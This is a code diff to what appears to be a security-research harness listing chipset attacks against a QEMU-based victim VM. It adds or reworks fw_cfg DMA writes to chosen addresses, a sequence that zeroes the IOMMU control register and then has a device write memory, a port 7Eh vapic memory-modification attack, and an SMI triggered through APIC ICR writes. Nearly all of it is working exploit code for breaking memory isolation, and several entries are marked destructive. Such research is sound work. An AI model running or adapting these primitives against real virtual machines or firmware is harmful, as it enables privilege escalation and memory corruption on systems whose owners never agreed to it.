@@ -1,6 +1,6 @@
 """Attacks through the chipset: windows laid over memory, SMI, A20, devices that no IOMMU covers, sleep."""
 from attack import Attack, memory_changes
-from by_device import IOMMU, MARK, TRANSLATED, edu_write
+from by_device import IOMMU, MARK, TRANSLATED, edu_fetch, edu_store
 from victim import Gone, config_write_acts, line
 
 HOST_BRIDGE, LPC = 0x0000, 0x00F8
@@ -30,28 +30,33 @@ def fw_cfg_acts(page):
     return ("out", 0x514, 4, swapped(page >> 32)), ("out", 0x518, 4, swapped(page & 0xFFFFFFFF))
 
 
-def fw_cfg_transfer(victim, control, size, address):
-    page = victim.alloc()
-    victim.write_bytes(page, control.to_bytes(4, "big") + size.to_bytes(4, "big") + address.to_bytes(8, "big"))
-    victim.acts(*fw_cfg_acts(page))
+def fw_cfg_request(control, size, address):
+    return control.to_bytes(4, "big") + size.to_bytes(4, "big") + address.to_bytes(8, "big")
 
 
 def fw_cfg_dma(victim):
     """The configuration device copies its signature to an address of our choice."""
-    target = victim.target()
-    return memory_changes(victim, target, lambda: fw_cfg_transfer(victim, 0x0000000A, 4, target))
+    target, page = victim.target(), victim.alloc()
+    victim.write_bytes(page, fw_cfg_request(0x0000000A, 4, target))
+    return memory_changes(victim, target, lambda: victim.acts(*fw_cfg_acts(page)))
 
 
 def fw_cfg_iommu(victim):
     """It also writes zeros to the IOMMU's control register; then a device writes memory."""
-    target, scratch = victim.target(), victim.alloc()
+    target, scratch, value = victim.target(), victim.alloc(), victim.alloc()
+    first, second = victim.alloc(), victim.alloc()
+    victim.ring0("write", value, 8, MARK)
+    victim.write_bytes(first, fw_cfg_request(0x0000000A, 4, scratch))
+    victim.write_bytes(second, fw_cfg_request(0x00000002, 8, IOMMU + 0x18))  # past the item's end: zeros
+    # Without its IOMMU Linux loses its interrupts: everything in one line, which it has read by then.
+    return memory_changes(victim, target, lambda: victim.fire("; ".join(
+        [line(*fw_cfg_acts(first), *fw_cfg_acts(second)), edu_fetch(victim, value, 8), edu_store(victim, target, 8)])))
 
-    def act():
-        fw_cfg_transfer(victim, 0x0000000A, 4, scratch)
-        fw_cfg_transfer(victim, 0x00000002, 8, IOMMU + 0x18)  # past the item's end: zeros
-        edu_write(victim, target, MARK)
 
-    return memory_changes(victim, target, act)
+def vapic(victim):
+    """Port 7Eh: QEMU's helper adds a number of our choice to memory of our choice."""
+    target = victim.target()
+    return memory_changes(victim, target, lambda: victim.fire(f"vapic {target:x} 1234567"))
 
 
 def _a20_off(victim, acts):
@@ -86,8 +91,7 @@ def smi_port(victim):
 def smi_by_icr(victim):
     target = victim.target()
     plant_smi_handler(victim, target)
-    return memory_changes(victim, target, lambda: victim.fire(line(("mmiow", 0xFEE00310, 4, 1 << 24),
-                                                                   ("mmiow", 0xFEE00300, 4, 0x4200))))
+    return memory_changes(victim, target, lambda: victim.fire(line(("mmiow", 0xFEE00300, 4, 0xC4200))))
 
 
 def _register_changes(victim, function, offset, width, new):
@@ -158,6 +162,7 @@ ATTACKS = [
     Attack("hpet-message", "chipset", hpet_message),
     Attack("fw-cfg-dma", "chipset", fw_cfg_dma),
     Attack("fw-cfg-iommu", "chipset", fw_cfg_iommu, destructive=True, more=TRANSLATED),
+    Attack("port-7e", "chipset", vapic, destructive=True),
     Attack("a20-port", "chipset", a20_port, destructive=True),
     Attack("a20-keyboard", "chipset", a20_keyboard, destructive=True),
     Attack("smi-port", "chipset", smi_port, destructive=True, pc=DEFAULTS),
